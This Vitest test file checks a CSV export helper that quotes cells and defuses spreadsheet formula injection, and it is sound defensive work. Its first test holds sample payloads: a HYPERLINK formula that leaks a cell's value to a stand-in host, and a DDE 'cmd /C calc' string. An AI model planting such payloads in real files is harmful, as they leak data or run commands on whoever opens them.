/** The one CSV cell writer of every export: quoting, and the formula-injection rule for text people typed. */
import { describe, expect, it } from 'vitest';
import { csvCell, csvDocument, csvLine, undoDefuse } from '../../src/domain/csv';
import { FORMULA_ATTACKS, expectDefused } from './csvAttacks';

describe('csvCell', () => {
  it('prefixes with a single quote and quotes every text that starts with = + - @, tab or carriage return', () => {
    expect(csvCell('=HYPERLINK("http://x/?d="&A2,"Ver ficha")', ';')).toBe('"\'=HYPERLINK(""http://x/?d=""&A2,""Ver ficha"")"');
    expect(csvCell('+cmd|\' /C calc\'!A0', ';')).toBe('"\'+cmd|\' /C calc\'!A0"');
    expect(csvCell('-2+3', ';')).toBe('"\'-2+3"');
    expect(csvCell('@SUM(1+1)', ',')).toBe('"\'@SUM(1+1)"');
    expect(csvCell('\tcalc', ';')).toBe('"\'\tcalc"');
    expect(csvCell('\r=1', ';')).toBe('"\'\r=1"');
    expectDefused(csvLine(FORMULA_ATTACKS, ';'), ';');
    expectDefused(csvLine(FORMULA_ATTACKS, ','), ',');
  });

  it('a text that only looks like a number is still text: "-3" typed by someone is defused', () => {
    expect(csvCell('-3', ';')).toBe('"\'-3"');
  });

  it('keeps our own numbers numeric, negative ones included (coordinates, counts)', () => {
    expect(csvCell(-2.6427, ';')).toBe('-2.6427');
    expect(csvCell(-3, ',')).toBe('-3');
    expect(csvCell(0, ',')).toBe('0');
    expect(csvCell(Number.NaN, ',')).toBe('');
  });

  it('quotes only what needs it: the separator, a quote or a line break', () => {
    expect(csvCell('Calle Mayor, 3', ',')).toBe('"Calle Mayor, 3"');
    expect(csvCell('Calle Mayor, 3', ';')).toBe('Calle Mayor, 3');
    expect(csvCell('33,3', ';')).toBe('33,3');
    expect(csvCell('junto al "foso"; norte', ';')).toBe('"junto al ""foso""; norte"');
    expect(csvCell('dos\nlíneas', ',')).toBe('"dos\nlíneas"');
    expect(csvCell('Misi', ',')).toBe('Misi');
    expect(csvCell("'ya con comilla", ',')).toBe("'ya con comilla");
    expect(csvCell(null, ';')).toBe('');
    expect(csvCell(undefined, ';')).toBe('');
  });
});

describe('csvDocument', () => {
  it('writes a whole file as the server exports it: BOM, one CRLF-ended line per row, every cell through csvCell', () => {
    expect(csvDocument([['nombre', 'gatos'], ['=1+1', 3]], ';')).toBe('\uFEFFnombre;gatos\r\n"\'=1+1";3\r\n');
    expect(csvDocument([['nombre']], ';')).toBe('\uFEFFnombre\r\n');
  });
});

describe('undoDefuse', () => {
  it('reads back what csvCell defused, and leaves any other text alone', () => {
    for (const attack of FORMULA_ATTACKS) expect(undoDefuse(`'${attack}`)).toBe(attack);
    expect(undoDefuse("'ya con comilla")).toBe("'ya con comilla");
    expect(undoDefuse('Misi')).toBe('Misi');
  });
});
